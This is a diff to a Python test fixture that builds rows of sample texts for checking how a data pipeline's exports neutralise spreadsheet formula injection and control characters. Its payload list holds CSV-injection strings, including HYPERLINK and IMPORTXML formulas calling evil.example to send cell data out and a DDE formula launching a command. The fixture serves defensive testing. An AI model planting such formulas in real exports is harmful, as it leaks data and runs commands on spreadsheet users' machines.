@@ -7,6 +7,8 @@ from pathlib import Path
 
 import duckdb
 
+from orchestration.exports.text_cells import without_controls
+
 PAYLOADS = (
     "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "－1+1",
     '=HYPERLINK("https://evil.example/?x="&A1,"click")', "=cmd|'/C calc'!A0", '=IMPORTXML("https://evil.example","//a")',
@@ -19,6 +21,9 @@ HARMLESS = (
 CONTROLS = "belt\x0bof\x00mines\x1f"
 LONG_TEXT = "Norland sent one tank. " * 1_740  # over 40,000 characters
 LONG_URL = "https://news.example/?q=" + "x" * 40_000
+TEXTS = (*PAYLOADS, *HARMLESS, CONTROLS, LONG_TEXT)
+QUOTED = [text if len(text) <= 300 else text[:299] + "…" for text in TEXTS]  # as every export has them
+SHOWN = [without_controls(text)[0] for text in QUOTED]  # as files for spreadsheets have them
 BUILT_AT = datetime(2026, 11, 24, 10, 5)  # noqa: DTZ001 - naive UTC
 
 _TEXTS = """
@@ -34,14 +39,13 @@ _TEXTS = """
 
 def text_rows() -> list[tuple[object, ...]]:
     """The rows of marts.mart_texts, one per text."""
-    texts = [*PAYLOADS, *HARMLESS, CONTROLS, LONG_TEXT]
     return [
         (
             f"txt_{at:03}", f"{12345678901234567890 + at}", text, LONG_URL if at == 1 else f"https://news.example/{at}",
             ("delivered", "agreed", None)[at % 3], ("USA", "RUS")[at % 2], "UKR", at - 5, 2**60 + at, f"{at - 3}.50", -0.25 * at,
             at % 2 == 0, f"2024-01-{at % 28 + 1:02}", f"2024-01-{at % 28 + 1:02} 08:00:{at:02}",
         )
-        for at, text in enumerate(texts)
+        for at, text in enumerate(TEXTS)
     ]  # fmt: skip
 
 
